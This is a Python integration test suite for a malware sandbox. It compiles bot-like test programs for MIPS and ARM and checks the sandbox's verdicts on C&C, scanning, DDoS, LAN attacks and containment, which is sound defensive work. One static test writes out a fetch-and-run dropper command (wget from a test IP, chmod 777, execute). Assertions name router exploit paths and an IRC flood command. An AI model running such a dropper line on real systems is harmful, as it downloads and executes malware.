"""The sandbox end to end: bot-like programs (tests/data/box/*.c) cross-compiled statically for
MIPS, MIPSEL and ARM, run by `mitsu box` in the sealed fake internet, each with the right
verdict; a second stage of another CPU run under its own emulator; containment (nothing from a
run on any host interface); the analysis queue through the event bus (`mitsu box --store`, the
path `mitsu run` takes); and the testbed table. Needs root (namespaces), qemu-user-static and
the cross compilers (scripts/deps)."""
import atexit
import json
import os
import shutil
import socket
import sqlite3
import struct
import subprocess
import sys
import tempfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402

DATA = os.path.join(harness.ROOT, 'tests', 'data', 'box')
ARCHS = {'mips': 'mips-linux-gnu-gcc', 'mipsel': 'mipsel-linux-gnu-gcc', 'arm': 'arm-linux-gnueabi-gcc'}
BOTS = ('mirai_like', 'gafgyt_lan', 'irc_bot', 'benign')
# Generous: the bots finish their work in a few seconds and exit, which ends the run early.
WINDOW = '40'
SAMPLE_MAC = bytes([0x02, 0x6d, 0x69, 0x74, 0x73, 0x75])


def compile_bot(src, arch, out, extra=()):
    cmd = [ARCHS[arch], '-static', '-O2', '-w', '-o', out, os.path.join(DATA, src + '.c')] + list(extra)
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    if p.returncode != 0:
        raise AssertionError('cannot build %s for %s:\n%s' % (src, arch, p.stderr[-2000:]))


class Box:
    """Builds every bot once and runs them all in one `mitsu box` (the runs in parallel)."""
    tmp = None
    verdicts = {}
    run_error = None

    @classmethod
    def prepare(cls):
        if cls.tmp:
            return
        cls.tmp = tempfile.mkdtemp(prefix='mitsu-it-box-')
        atexit.register(shutil.rmtree, cls.tmp, True)
        files = []
        for bot in BOTS:
            for arch in ARCHS:
                out = os.path.join(cls.tmp, '%s-%s' % (bot, arch))
                compile_bot(bot, arch, out)
                files.append(out)
        # A MIPS dropper carrying the ARM benign program as its second stage.
        dropper = os.path.join(cls.tmp, 'dropper-mips')
        compile_bot('dropper', 'mips', dropper,
                    ['-DSTAGE2="%s"' % os.path.join(cls.tmp, 'benign-arm')])
        files.append(dropper)
        cls.data_dir = os.path.join(cls.tmp, 'data')
        p = harness.run_mitsu('box', '--format', 'json', '--window', WINDOW, '--parallel', '4', *files,
                              data_dir=cls.data_dir, check=False, timeout=400)
        if p.returncode != 0:
            cls.run_error = 'mitsu box exited %d:\n%s' % (p.returncode, p.stderr[-4000:])
        for line in p.stdout.splitlines():
            v = json.loads(line)
            cls.verdicts[os.path.basename(v['file'])] = v


class BoxTest(harness.unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        if os.geteuid() != 0:
            raise AssertionError('the sandbox tests need root (namespaces, veth, cgroups)')
        Box.prepare()

    def verdict(self, name):
        self.assertIsNone(Box.run_error, Box.run_error)
        self.assertIn(name, Box.verdicts, 'no verdict for %s' % name)
        v = Box.verdicts[name]
        # The contract of --format json.
        for key in ('sha256', 'arch', 'family', 'dns', 'cnc', 'scan', 'lan_attack', 'ddos', 'seconds'):
            self.assertIn(key, v)
        for key in ('detected', 'ports', 'targets', 'mirai_fingerprint'):
            self.assertIn(key, v['scan'])
        self.assertIn('evidence', v['lan_attack'])
        for key in ('detected', 'vector', 'target'):
            self.assertIn(key, v['ddos'])
        self.assertTrue(v['dynamic']['ran'], v['dynamic'])
        self.assertIsNone(v['dynamic'].get('error'), v['dynamic'])
        return v

    def check_mirai_like(self, arch):
        v = self.verdict('mirai_like-' + arch)
        self.assertEqual(v['arch'], arch)
        self.assertEqual(v['family'], 'mirai')
        self.assertEqual(v['dns'], ['cnc.mitsu-test.invalid'])
        self.assertEqual([(c['host'], c['port'], c['protocol']) for c in v['cnc']],
                         [('cnc.mitsu-test.invalid', 23, 'mirai')])
        self.assertEqual(v['cnc'][0].get('bot_id'), 'mitsu-test')
        scan = v['scan']
        self.assertTrue(scan['detected'])
        self.assertIn(23, scan['ports'])
        self.assertIn(2323, scan['ports'])
        self.assertTrue(scan['mirai_fingerprint'])
        self.assertGreaterEqual(scan['targets'], 200)
        self.assertTrue(scan['raw_socket'])
        self.assertFalse(v['lan_attack']['detected'], v['lan_attack'])
        ddos = v['ddos']
        self.assertTrue(ddos['detected'])
        self.assertEqual(ddos['vector'], 'udp')
        self.assertEqual(ddos['target'], '198.51.100.10:80')
        self.assertTrue(ddos['commanded'])
        self.assertTrue(v['killer']['detected'])
        self.assertTrue(any('telnetd' in e for e in v['killer']['evidence']), v['killer'])
        self.assertTrue(any('watchdog' in e for e in v['persistence']['evidence']))

    def check_gafgyt_lan(self, arch):
        v = self.verdict('gafgyt_lan-' + arch)
        self.assertEqual(v['family'], 'gafgyt')
        self.assertEqual(v['dns'], [])
        self.assertEqual([(c['host'], c['port'], c['protocol'], c['checkin']) for c in v['cnc']],
                         [('198.51.100.66', 666, 'gafgyt', 'silent')])
        self.assertIn('PONG!', v['cnc'][0].get('replies', []))
        scan = v['scan']
        self.assertTrue(scan['detected'])
        self.assertEqual(sorted(scan['ports'])[:3], [80, 37215, 52869])
        self.assertFalse(scan['mirai_fingerprint'])
        lan = v['lan_attack']
        self.assertTrue(lan['detected'])
        ev = ' | '.join(lan['evidence'])
        self.assertIn('ARP sweep', ev)
        self.assertIn('same subnet', ev)
        self.assertIn('gateway 192.168.1.1', ev)
        self.assertIn('UPnP', ev)
        self.assertGreaterEqual(lan['arp_unanswered'], 200)
        self.assertEqual(sorted(lan['gateway_ports']), [80, 37215, 52869])
        paths = {r.get('path') for r in v['http_requests']}
        self.assertIn('/picsdesc.xml', paths)
        self.assertIn('/ctrlt/DeviceUpgrade_1', paths)
        self.assertFalse(v['ddos']['detected'])

    def check_irc_bot(self, arch):
        v = self.verdict('irc_bot-' + arch)
        self.assertEqual(v['family'], 'tsunami')
        self.assertEqual(v['dns'], ['irc.mitsu-test.invalid'])
        self.assertEqual([(c['host'], c['port'], c['protocol']) for c in v['cnc']],
                         [('irc.mitsu-test.invalid', 6667, 'irc')])
        self.assertIn('!* UDP 198.51.100.10 80 5', v['cnc'][0]['commands'])
        self.assertFalse(v['scan']['detected'])
        self.assertFalse(v['lan_attack']['detected'])
        self.assertTrue(v['ddos']['detected'])
        self.assertEqual(v['ddos']['vector'], 'udp')
        self.assertEqual(v['ddos']['target'], '198.51.100.10:80')

    def check_benign(self, arch):
        v = self.verdict('benign-' + arch)
        self.assertEqual(v['family'], 'unknown')
        self.assertEqual(v['verdict'], 'no malicious behaviour seen')
        self.assertEqual(v['dns'], [])
        self.assertEqual(v['cnc'], [])
        for key in ('scan', 'lan_attack', 'ddos', 'killer', 'persistence'):
            self.assertFalse(v[key]['detected'], (key, v[key]))
        self.assertEqual(v['static']['yara'], [])
        self.assertIn('hello from a benign program', v['dynamic']['output'])
        self.assertEqual([f['path'] for f in v['files_written']], ['/tmp/benign.txt'])

    def test_second_stage_of_another_cpu(self):
        """A MIPS dropper writes an ARM program and execs it: it runs under qemu-arm."""
        v = self.verdict('dropper-mips')
        execs = v['processes']['execs']
        self.assertEqual([(e['path'], e['run']) for e in execs], [('/tmp/.stage2', 'arm')])
        self.assertEqual(v['processes']['relaunched'], 1)
        self.assertIn('hello from a benign program', v['dynamic']['output'])
        self.assertIn('second stage exited with 0', v['dynamic']['output'])
        written = {f['path']: f for f in v['files_written']}
        self.assertEqual(written['/tmp/.stage2'].get('arch'), 'arm')
        self.assertIn('/tmp/benign.txt', written)

    def test_artefacts(self):
        """DATA/box/<sha256>/ holds the report, the capture, the trace and the fake internet's log."""
        v = self.verdict('mirai_like-mips')
        d = os.path.join(Box.data_dir, 'box', v['sha256'])
        for name in ('report.json', 'capture.pcap', 'trace.jsonl', 'fakenet.jsonl'):
            self.assertTrue(os.path.isfile(os.path.join(d, name)), name)
        with open(os.path.join(d, 'report.json')) as f:
            self.assertEqual(json.load(f)['sha256'], v['sha256'])
        with open(os.path.join(d, 'capture.pcap'), 'rb') as f:
            head = f.read(24)
        self.assertEqual(struct.unpack('<I', head[:4])[0], 0xa1b2c3d4)
        with open(os.path.join(d, 'trace.jsonl')) as f:
            calls = [json.loads(line)['call'] for line in f]
        self.assertIn('connect', calls)
        self.assertIn('socket', calls)
        # The stored verdicts (box_results) and the event of each.
        db = sqlite3.connect(os.path.join(Box.data_dir, 'mitsu.db'))
        n = db.execute('SELECT COUNT(*) FROM box_results').fetchone()[0]
        self.assertEqual(n, len(Box.verdicts))
        row = db.execute("SELECT family, scan, ddos FROM box_latest WHERE sha256 = ?", (v['sha256'],)).fetchone()
        self.assertEqual(row, ('mirai', 1, 1))
        db.close()
        with open(os.path.join(Box.data_dir, 'events.jsonl')) as f:
            evs = [json.loads(line) for line in f]
        res = [e for e in evs if e['eventid'] == 'mitsu.box.result']
        self.assertEqual(len(res), len(Box.verdicts))
        ours = [e for e in res if e['shasum'] == v['sha256']]
        self.assertEqual(ours[0]['family'], 'mirai')

    def test_testbed_table(self):
        """`mitsu box --results --testbed`: samples that attack the LAN side, by CPU."""
        p = harness.run_mitsu('box', '--results', '--testbed', '--format', 'json', data_dir=Box.data_dir)
        rows = {r['arch']: r for r in map(json.loads, p.stdout.splitlines())}
        self.assertEqual(rows['mips']['samples'], 5)     # four bots and the dropper
        self.assertEqual(rows['mips']['lan_attack'], 1)  # the LAN scanner
        self.assertEqual(rows['arm']['samples'], 4)
        self.assertEqual(rows['arm']['lan_attack'], 1)
        self.assertEqual(rows['all']['samples'], 13)
        self.assertEqual(rows['all']['lan_attack'], 3)
        self.assertAlmostEqual(rows['all']['share'], 3 / 13, places=4)
        p = harness.run_mitsu('box', '--results', '--testbed', data_dir=Box.data_dir)
        self.assertIn('mipsel', p.stdout)


for _bot in BOTS:
    for _arch in ARCHS:
        def _make(bot, arch):
            def test(self):
                getattr(self, 'check_' + bot)(arch)
            test.__doc__ = '%s built for %s gets the right verdict' % (bot, arch)
            return test
        setattr(BoxTest, 'test_%s_%s' % (_bot, _arch), _make(_bot, _arch))


class ContainmentTest(harness.unittest.TestCase):
    """While a scanning, flooding bot runs, no packet of it appears on any host interface."""

    def test_nothing_leaves_the_sandbox(self):
        if os.geteuid() != 0:
            raise AssertionError('the sandbox tests need root')
        if not shutil.which('tcpdump'):
            raise AssertionError('tcpdump is needed (scripts/deps)')
        tmp = tempfile.mkdtemp(prefix='mitsu-it-contain-')
        try:
            sample = os.path.join(tmp, 'mirai_like-mipsel')
            compile_bot('mirai_like', 'mipsel', sample)
            pcap = os.path.join(tmp, 'host.pcap')
            links_before = set(os.listdir('/sys/class/net'))
            marker = '127.%d.%d.%d' % (77, os.getpid() % 250, os.getpid() // 250 % 250 + 1)
            # Every frame of the host but the loopback traffic between its own addresses (other
            # tests', a flood's: no packet of the sandbox can be one), which once buried the
            # marker below under a busy host's (tcpdump dropped it); the marker is kept.
            bpf = ('not (ip and src net 127.0.0.0/8 and dst net 127.0.0.0/8) '
                   'and not (ip6 and src host ::1 and dst host ::1) or (udp and dst host %s)' % marker)
            dump = subprocess.Popen(['tcpdump', '-i', 'any', '-n', '-U', '-s', '128', '-B', '8192', '-w', pcap, bpf],
                                    stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
            try:
                seen = ''
                for _ in range(5):
                    seen += dump.stderr.readline()
                    if 'listening on' in seen:
                        break
                self.assertIn('listening on', seen)
                p = harness.run_mitsu('box', '--format', 'json', '--window', WINDOW, sample,
                                      data_dir=os.path.join(tmp, 'data'), timeout=300)
                # A marker datagram on the host after the run: once tcpdump (-U: a write per
                # packet) has written it, it has written everything captured before it.
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as m:
                    m.sendto(b'marker', (marker, 9))
                harness.wait_until(lambda: any(dst == marker for _, _, dst in read_any_pcap(pcap)),
                                   timeout=30, what='the marker datagram in the host capture')
            finally:
                dump.terminate()
                dump.wait(timeout=30)
            v = json.loads(p.stdout)
            # The run did send: a scan and a flood, seen inside the sandbox...
            self.assertTrue(v['scan']['detected'] and v['ddos']['detected'], v)
            self.assertGreater(v['dynamic']['network']['frames'], 300)
            # ...and none of it on the host.
            leaks = []
            for src_mac, src, dst in read_any_pcap(pcap):
                if (src_mac == SAMPLE_MAC or src == '192.168.1.100' or dst == '198.51.100.10'
                        or dst.startswith('203.0.113.')):
                    leaks.append((src_mac.hex(), src, dst))
            self.assertEqual(leaks, [])
            # Nothing of the run is left: no link, no scratch root, no process of its uid.
            self.assertEqual(set(os.listdir('/sys/class/net')) - links_before, set())
            uid = v['dynamic']['limits']['uid']

            def owners():
                found = []
                for pid in filter(str.isdigit, os.listdir('/proc')):
                    try:
                        st = os.stat('/proc/' + pid)
                    except OSError:
                        continue
                    if st.st_uid in (uid, uid + 1):
                        found.append(pid)
                return found
            # A killed process may still be being reaped when `mitsu box` returns: wait for its
            # uid to own nothing (once this waited on a fixed pause).
            harness.wait_until(lambda: not owners(), timeout=10,
                               what='the processes of uid %d to end' % uid)
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


def read_any_pcap(path):
    """(link-layer source, IPv4 source, IPv4 destination) of each frame of a Linux cooked
    capture (tcpdump -i any: SLL or SLL2)."""
    with open(path, 'rb') as f:
        data = f.read()
    if len(data) < 24:
        return
    magic = struct.unpack('<I', data[:4])[0]
    order = '<' if magic in (0xa1b2c3d4, 0xa1b23c4d) else '>'
    linktype = struct.unpack(order + 'I', data[20:24])[0]
    off = 24
    while off + 16 <= len(data):
        _, _, caplen, _ = struct.unpack(order + 'IIII', data[off:off + 16])
        pkt = data[off + 16:off + 16 + caplen]
        off += 16 + caplen
        if linktype == 113 and len(pkt) >= 16:      # SLL
            mac, proto, ip = pkt[6:12], struct.unpack('>H', pkt[14:16])[0], pkt[16:]
        elif linktype == 276 and len(pkt) >= 20:    # SLL2
            mac, proto, ip = pkt[12:18], struct.unpack('>H', pkt[0:2])[0], pkt[20:]
        else:
            continue
        src = dst = ''
        if proto == 0x0800 and len(ip) >= 20:
            src = '.'.join(map(str, ip[12:16]))
            dst = '.'.join(map(str, ip[16:20]))
        yield mac, src, dst


class QueueTest(harness.unittest.TestCase):
    """The queue `mitsu run` uses: a new ELF sample stored in the sample store is analysed
    through the event bus; a duplicate is not analysed again."""

    def test_store_then_analyse_through_the_bus(self):
        if os.geteuid() != 0:
            raise AssertionError('the sandbox tests need root')
        tmp = tempfile.mkdtemp(prefix='mitsu-it-queue-')
        try:
            sample = os.path.join(tmp, 'irc_bot-mipsel')
            compile_bot('irc_bot', 'mipsel', sample)
            data = os.path.join(tmp, 'data')
            p = harness.run_mitsu('box', '--store', '--format', 'json', '--window', WINDOW, sample,
                                  data_dir=data, timeout=300)
            v = json.loads(p.stdout)
            self.assertEqual(v['family'], 'tsunami')
            with open(os.path.join(data, 'events.jsonl')) as f:
                evs = [json.loads(line) for line in f]
            stored = [e for e in evs if e['eventid'] == 'mitsu.sample.stored']
            results = [e for e in evs if e['eventid'] == 'mitsu.box.result']
            self.assertEqual(len(stored), 1)
            self.assertFalse(stored[0]['duplicate'])
            self.assertEqual(len(results), 1)
            self.assertEqual(results[0]['shasum'], stored[0]['shasum'])
            self.assertEqual(results[0]['family'], 'tsunami')
            self.assertTrue(results[0]['dynamic'])
            self.assertTrue(results[0]['ddos']['detected'])
            # The sample was analysed from the store (DATA/samples), and its capture time is the
            # event's: seconds counts from there.
            self.assertIn('/samples/', v['file'])
            self.assertEqual(v['captured'][:19], stored[0]['timestamp'][:19])
            self.assertGreaterEqual(v['seconds'], v['analysis_seconds'])
            # Again: a duplicate, not queued.
            p = harness.run_mitsu('box', '--store', '--format', 'json', sample, data_dir=data, timeout=300)
            self.assertEqual(p.stdout, '')
            self.assertIn('already in the sample store', p.stderr)
            with open(os.path.join(data, 'events.jsonl')) as f:
                evs = [json.loads(line) for line in f]
            self.assertEqual(len([e for e in evs if e['eventid'] == 'mitsu.box.result']), 1)
            self.assertTrue([e for e in evs if e['eventid'] == 'mitsu.sample.stored'][-1]['duplicate'])
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


class RootlessTest(harness.unittest.TestCase):
    """Without root (a sensor that dropped its privileges, or a user): the sandbox runs in a user
    namespace of its own, with listeners on the usual ports instead of sk_lookup and no cgroup."""

    def test_runs_without_root(self):
        if os.geteuid() != 0:
            raise AssertionError('this test switches from root to nobody')
        tmp = tempfile.mkdtemp(prefix='mitsu-it-rootless-')
        try:
            os.chmod(tmp, 0o755)
            sample = os.path.join(tmp, 'mirai_like-arm')
            compile_bot('mirai_like', 'arm', sample)
            data = os.path.join(tmp, 'data')
            os.mkdir(data)
            shutil.chown(data, 'nobody')
            cmd = ['setpriv', '--reuid=nobody', '--regid=nogroup', '--clear-groups', harness.MITSU, 'box',
                   '--data-dir', data, '--format', 'json', '--window', WINDOW, sample]
            p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, timeout=300)
            for mark in harness.SANITIZER_MARKS:
                self.assertNotIn(mark, p.stderr)
            self.assertEqual(p.returncode, 0, p.stderr[-3000:])
            v = json.loads(p.stdout)
            self.assertTrue(v['dynamic']['ran'], v['dynamic'])
            limits = v['dynamic']['limits']
            self.assertTrue(limits['rootless'])
            self.assertEqual(limits['cgroup'], 'none')
            self.assertEqual(limits['uid'], int(subprocess.check_output(['id', '-u', 'nobody'])))
            self.assertEqual(v['dynamic']['catch_all'], 'ports')
            self.assertEqual(v['family'], 'mirai')
            self.assertEqual([(c['host'], c['port']) for c in v['cnc']], [('cnc.mitsu-test.invalid', 23)])
            self.assertTrue(v['scan']['mirai_fingerprint'])
            self.assertTrue(v['ddos']['detected'])
            self.assertTrue(v['killer']['detected'])
        finally:
            shutil.rmtree(tmp, ignore_errors=True)


class StaticTest(harness.unittest.TestCase):
    """What needs no run: other files, hostile files, --static-only."""

    def test_not_an_elf(self):
        with tempfile.TemporaryDirectory() as d:
            path = os.path.join(d, 'x.sh')
            with open(path, 'w') as f:
                f.write('#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/mips; chmod 777 mips; ./mips\n')
            p = harness.run_mitsu('box', path, data_dir=os.path.join(d, 'data'))
            v = json.loads(p.stdout)
            self.assertFalse(v['dynamic']['ran'])
            self.assertEqual(v['dynamic']['reason'], 'not an ELF file')
            self.assertIn('http://198.51.100.7/bins/mips', v['static']['strings']['urls'])
            self.assertEqual(v['filetype'], 'script')

    def test_hostile_elf_headers(self):
        with tempfile.TemporaryDirectory() as d:
            path = os.path.join(d, 'bad')
            hdr = bytearray(b'\x7fELF\x01\x02\x01' + bytes(45))
            struct.pack_into('>HHIIIIIHHHHHH', hdr, 16, 2, 8, 1, 0, 0xfffffff0, 0xfffffff0, 0, 52, 32, 65535, 40,
                             65535, 65535)
            with open(path, 'wb') as f:
                f.write(bytes(hdr))
            p = harness.run_mitsu('box', '--static-only', path, data_dir=os.path.join(d, 'data'))
            v = json.loads(p.stdout)
            self.assertEqual(v['arch'], 'mips')
            self.assertTrue(v['static']['elf']['truncated'])

    def test_missing_file(self):
        with tempfile.TemporaryDirectory() as d:
            p = harness.run_mitsu('box', os.path.join(d, 'nothing'), data_dir=os.path.join(d, 'data'), check=False)
            self.assertEqual(p.returncode, 1)
            v = json.loads(p.stdout)
            self.assertEqual(v['verdict'], 'error')


if __name__ == '__main__':
    harness.main()
